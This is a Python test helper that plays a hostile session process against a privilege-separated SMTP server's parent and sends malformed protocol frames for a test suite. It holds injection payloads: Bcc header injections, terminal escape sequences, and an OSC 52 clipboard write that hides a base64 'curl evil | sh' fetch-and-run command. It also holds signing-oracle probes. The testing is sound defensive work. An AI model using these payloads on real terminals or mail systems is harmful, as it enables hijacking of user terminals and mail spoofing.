#!/usr/bin/env python3
"""hostile.py FD: a hostile stand-in for the session process (privsep.h), for
privsep.bats.  The test build smtp-session-test runs it in the session process's
place (SMTP_TEST_CHILD) with the link to the real privileged parent on FD.  It
speaks the frame protocol and breaks it the way $HOSTILE_CASE says; "good" is the
control: a correct delivery to bob.  The frame types are read from privsep.h."""
import os
import re
import socket
import struct
import sys
import time

TOP = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
names = re.search(r"enum ps_type \{(.*?)\};", open(os.path.join(TOP, "privsep.h")).read(), re.S)
T = {}
for i, n in enumerate(re.findall(r"\b(PS_[A-Z_]+)\b", names.group(1))):
    T[n] = i + 1
LOOKUP_OK, LOOKUP_RELAY_DENIED, AUTHN_FAIL, MAILBOX_OK = 0, 5, 1, 0

sock = socket.socket(fileno=int(sys.argv[1]))
case = os.environ.get("HOSTILE_CASE", "good")


def u32(v):
    return struct.pack("=I", v)


def u64(v):
    return struct.pack("=Q", v)


def s(b):
    b = b.encode() if isinstance(b, str) else b
    return u32(len(b)) + b


def send(t, payload=b"", fd=None, length=None):
    frame = struct.pack("=IHH", len(payload) if length is None else length, t, 0) + payload
    if fd is None:
        sock.sendall(frame)
    else:
        socket.send_fds(sock, [frame], [fd])


def recv_exact(n):
    b = b""
    while len(b) < n:
        c = sock.recv(n - len(b))
        if not c:
            sys.exit(3)
        b += c
    return b


def recv():
    n, t, _ = struct.unpack("=IHH", recv_exact(8))
    return t, recv_exact(n)


# The DSN fields (RFC 3461) of PS_MAIL (u32 RET, str ENVID) and of PS_RCPT and
# PS_ACCEPT (u32 NOTIFY, str ORCPT): none given.
DSN_MAIL = u32(0) + s("")
DSN_RCPT = u32(0) + s("")

in_mail = False


def mail():
    """PS_MAIL: a transaction starts (every lookup needs one); not authenticated, it
    has no answer."""
    global in_mail
    send(T["PS_MAIL"], s("a@example.org") + DSN_MAIL)
    in_mail = True


def lookup(local, domain=""):
    if not in_mail:
        mail()
    send(T["PS_LOOKUP"], s(local) + s(domain))
    t, p = recv()
    assert t == T["PS_LOOKUP_ANS"] and struct.unpack("=I", p[:4])[0] == LOOKUP_OK, p


def delivery(size, seq=1):
    """PS_DELIVER's fields: the size, the sequence, the id, no relay header."""
    return u64(size) + u32(seq) + s("ID") + s("")


def memfd(data, seal=True):
    fd = os.memfd_create("hostile", os.MFD_ALLOW_SEALING)
    os.write(fd, data)
    if seal:
        import fcntl
        fcntl.fcntl(fd, fcntl.F_ADD_SEALS, fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW |
                    fcntl.F_SEAL_WRITE | fcntl.F_SEAL_SEAL)
    return fd


def deliver(fd, size):
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("X-Hostile: " + case + "\n") + DSN_RCPT)
    send(T["PS_DELIVER"], delivery(size), fd=fd)


MSG = b"Subject: hostile\n\nbody\n"
if case == "good":
    lookup("bob")
    send(T["PS_CHECK"], s("bob") + u64(len(MSG)))
    t, p = recv()
    assert t == T["PS_CHECK_ANS"] and p == u32(MAILBOX_OK), (t, p)
    deliver(memfd(MSG), len(MSG))
    t, p = recv()
    # 0, RELAY_OK, and no recipient missed (an empty byte string).
    assert t == T["PS_DELIVER_ANS"] and p == u32(0) + u32(0) + u32(0), (t, p)
    sys.exit(0)
elif case == "bad-id":
    # An id that would add a header field to a report (parent/report.c).
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
    send(T["PS_DELIVER"], u64(len(MSG)) + u32(1) + s("ID\nBcc: victim@example.org") + s(""),
         fd=memfd(MSG))
elif case == "dsn-notify":
    # NEVER with SUCCESS (RFC 3461 4.1): the session refuses it with 501.
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("") + u32(8 | 1) + s(""))
elif case == "dsn-orcpt":
    # An ORCPT that would add a header field to a report (parent/report.c).
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("") + u32(0) + s("rfc822;a@b\nBcc: victim@example.org"))
elif case == "dsn-envid":
    send(T["PS_MAIL"], s("a@example.org") + u32(0) + s("id\nBcc: victim@example.org"))
elif case == "dsn-ret":
    send(T["PS_MAIL"], s("a@example.org") + u32(3) + s(""))
elif case == "dsn-accept":
    send(T["PS_AUTH"], s("alice") + s("secret") + s("127.0.0.1"))
    t, p = recv()
    assert t == T["PS_AUTH_ANS"] and struct.unpack("=I", p[:4])[0] == 0, p
    send(T["PS_MAIL"], s("") + DSN_MAIL)
    t, p = recv()
    send(T["PS_LOOKUP"], s("x") + s("remote.example"))
    t, p = recv()
    send(T["PS_ACCEPT"], u32(16) + s(""))
elif case == "unlooked":
    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
    send(T["PS_DELIVER"], delivery(len(MSG)), fd=memfd(MSG))
elif case == "check-unlooked":
    send(T["PS_CHECK"], s("bob") + u64(0))
elif case == "check-size":
    lookup("bob")
    send(T["PS_CHECK"], s("bob") + u64(1 << 62))
elif case == "check-pending":
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
    send(T["PS_CHECK"], s("bob") + u64(0))
elif case == "twice":
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
elif case == "overannounced":
    # More spool announced (and copied) than then delivered: the delivery fails, not
    # the session, and nothing is kept.
    lookup("bob")
    send(T["PS_CHECK"], s("bob") + u64(0))
    recv()
    send(T["PS_RCPT"], s("bob") + s("X-Hostile: overannounced\n") + DSN_RCPT)
    fd = memfd(MSG * 2, seal=False)
    send(T["PS_BEGIN"], u32(1), fd=fd)
    send(T["PS_MORE"], u64(len(MSG) * 2))
    import fcntl
    fcntl.fcntl(fd, fcntl.F_ADD_SEALS, fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW |
                fcntl.F_SEAL_WRITE | fcntl.F_SEAL_SEAL)
    send(T["PS_DELIVER"], delivery(len(MSG)), fd=fd)
    t, p = recv()
    assert t == T["PS_DELIVER_ANS"] and p[:8] != u32(0) + u32(0), (t, p)
    sys.exit(0)
elif case == "more-unbegun":
    send(T["PS_MORE"], u64(10))
elif case == "begun-other":
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("X-Hostile: begun\n") + DSN_RCPT)
    fd = memfd(MSG)
    send(T["PS_BEGIN"], u32(1), fd=fd)
    send(T["PS_DELIVER"], delivery(len(MSG), 2), fd=fd)
elif case == "auth4":
    for i in range(4):
        send(T["PS_AUTH"], s("alice") + s("wrong%d" % i) + s("127.0.0.1"))
        t, p = recv()
        assert t == T["PS_AUTH_ANS"] and struct.unpack("=I", p[:4])[0] == AUTHN_FAIL, p
elif case == "ttymany":
    # Terminal checks for bob, one child each, past the session's budget
    # (TTY_CHILDREN_MAX in common/config.h): the parent counts them itself.
    limit = int(re.search(r"#define TTY_CHILDREN_MAX (\d+)",
                          open(os.path.join(TOP, "common", "config.h")).read()).group(1))
    lookup("bob")
    for i in range(limit + 1):
        send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
        send(T["PS_TTY_CHECK"])
        t, p = recv()
        assert t == T["PS_TTY_ANS"], (t, p)
elif case == "ttyremote":
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
    send(T["PS_TTY_CHECK"])
    t, p = recv()
    assert t == T["PS_TTY_ANS"], (t, p)
    if os.environ.get("TCPREMOTEIP") == "127.0.0.1":
        sys.exit(0)	# the control: a loopback client may
elif case in ("ttygood", "ttytitle", "ttyclear", "ttybanner", "ttyosc52"):
    # Terminal text for bob: the control is laid out as tty_render() makes it; the
    # others carry what a taken-over session would put on a user's screen.
    head = b"\r\nMessage from a@example.org on h (192.0.2.1) at 12:00 ...\r\n"
    body = {
        "ttygood": b"| hello bob\r\n",
        "ttytitle": b"| \x1b]0;you have been pwned\x07\r\n",
        "ttyclear": b"\x1b[2J\x1b[H| hi\r\n",
        "ttybanner": b"| hi\r\n\r\nMessage from root@localhost on localhost (127.0.0.1)\r\n",
        "ttyosc52": b"| \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\r\n",
    }[case]
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
    send(T["PS_TTY_WRITE"], s(head + body + b"EOF\r\n"))
    t, p = recv()
    assert t == T["PS_TTY_ANS"], (t, p)
    sys.exit(0)
elif case == "authtime":
    # The parent itself holds a failure back to --auth-delay: the session process,
    # which could time PAM, sees every failure take at least that long.
    took = []
    for user in ("nosuchuser", "alice"):
        t0 = time.monotonic()
        send(T["PS_AUTH"], s(user) + s("wrong") + s("127.0.0.1"))
        t, p = recv()
        took.append(int((time.monotonic() - t0) * 1000))
        assert t == T["PS_AUTH_ANS"] and struct.unpack("=I", p[:4])[0] == AUTHN_FAIL, p
    with open(os.path.join(os.environ["HOSTILE_DIR"], "authtime"), "w") as f:
        f.write("%d %d\n" % tuple(took))
    sys.exit(0)
elif case == "badname":
    send(T["PS_AUTH"], s("alice\n\x1b[2Jroot") + s("secret") + s("127.0.0.1"))
    recv()
elif case == "oversize":
    send(T["PS_LOOKUP"], s("b" * 70000))
elif case == "truncated":
    send(T["PS_LOOKUP"], s("bob")[:5], length=20)
    sys.exit(0)
elif case == "unknown":
    send(99)
elif case == "answer":
    send(T["PS_LOOKUP_ANS"], u32(0) + s("bob"))
elif case == "leftover":
    mail()
    send(T["PS_LOOKUP"], s("bob") + s("") + b"x")
elif case == "lookup-no-mail":
    send(T["PS_LOOKUP"], s("bob") + s(""))
elif case == "relay-unauthenticated":
    # Another domain without AUTH: the parent refuses it (550 5.7.1), and a session
    # that accepts it anyway is ended.
    mail()
    send(T["PS_LOOKUP"], s("x") + s("remote.example"))
    t, p = recv()
    assert t == T["PS_LOOKUP_ANS"] and struct.unpack("=I", p[:4])[0] == LOOKUP_RELAY_DENIED, p
    send(T["PS_ACCEPT"], DSN_RCPT)
elif case == "relay-literal":
    # After a successful AUTH, an address literal: the parent refuses to relay it
    # (550 5.7.1 in the session), and a session that accepts it anyway is ended.
    send(T["PS_AUTH"], s("alice") + s("secret") + s("127.0.0.1"))
    t, p = recv()
    assert t == T["PS_AUTH_ANS"] and struct.unpack("=I", p[:4])[0] == 0, p
    send(T["PS_MAIL"], s("") + DSN_MAIL)	# the null sender: no address of alice's needed
    t, p = recv()
    assert t == T["PS_MAIL_ANS"], (t, p)
    send(T["PS_LOOKUP"], s("x") + s("[127.0.0.1]"))
    t, p = recv()
    assert t == T["PS_LOOKUP_ANS"] and struct.unpack("=I", p[:4])[0] == LOOKUP_RELAY_DENIED, p
    send(T["PS_ACCEPT"], DSN_RCPT)
elif case == "fifo":
    d = os.environ["HOSTILE_DIR"]
    os.mkfifo(d + "/fifo")
    deliver(os.open(d + "/fifo", os.O_RDWR | os.O_NONBLOCK), 10)
elif case == "dir":
    deliver(os.open("/", os.O_RDONLY | os.O_DIRECTORY), 10)
elif case == "small":
    deliver(memfd(MSG), 1000)
elif case == "unsealed":
    deliver(memfd(MSG, seal=False), len(MSG))
elif case == "no-spool":
    lookup("bob")
    send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
    send(T["PS_DELIVER"], delivery(len(MSG)))
elif case.startswith("sign-"):
    # Issue 21: run with --tls-cert/--tls-key of an ECDSA P-256 pair.  PS_TLS_KEYS
    # first, as a real session asks it at STARTTLS (tls_prepare()).
    gt = open("/usr/include/gnutls/gnutls.h").read()
    G = {n: int(v) for n, v in re.findall(r"\b(GNUTLS_SIGN_[A-Z0-9_]+) = (\d+)", gt)}
    P256 = G["GNUTLS_SIGN_ECDSA_SECP256R1_SHA256"]

    def sign(pair, algo, data):
        send(T["PS_SIGN"], u32(pair) + u32(algo) + s(data))

    if case != "sign-no-tls":
        send(T["PS_TLS_KEYS"])
        t, p = recv()
        assert t == T["PS_TLS_KEYS_ANS"] and p[:4] == u32(1), (t, p)

    if case == "sign-good":	# the control: one handshake's signature is made
        sign(0, P256, b"h" * 32)
        t, p = recv()
        assert t == T["PS_SIGN_ANS"] and p[:4] == u32(0) and len(p) > 8, (t, p)
        sys.exit(0)
    elif case == "sign-many":	# an oracle: signature after signature
        for i in range(10):
            sign(0, P256, bytes([i]) * 32)
            t, p = recv()
            assert t == T["PS_SIGN_ANS"] and p[:4] == u32(0), (t, p)
    elif case == "sign-raw":	# raw RSA of chosen data with an ECDSA key
        sign(0, G["GNUTLS_SIGN_RSA_RAW"], b"x" * 51)
    elif case == "sign-length":	# a "hash" of another length than SHA-256's
        sign(0, P256, b"h" * 200)
    elif case == "sign-curve":	# P-384's algorithm with a P-256 key
        sign(0, G["GNUTLS_SIGN_ECDSA_SECP384R1_SHA384"], b"h" * 48)
    elif case == "sign-pair":	# a pair there is not
        sign(5, P256, b"h" * 32)
    elif case == "sign-keys-twice":
        send(T["PS_TLS_KEYS"])
    elif case == "sign-pending":	# with recipients pending
        lookup("bob")
        send(T["PS_RCPT"], s("bob") + s("") + DSN_RCPT)
        sign(0, P256, b"h" * 32)
    elif case == "sign-no-tls":	# run without TLS options
        sign(0, P256, b"h" * 32)
else:
    sys.exit("unknown HOSTILE_CASE " + case)
# The parent must now kill us; wait for it, but not for ever.
time.sleep(10)
sys.exit(4)
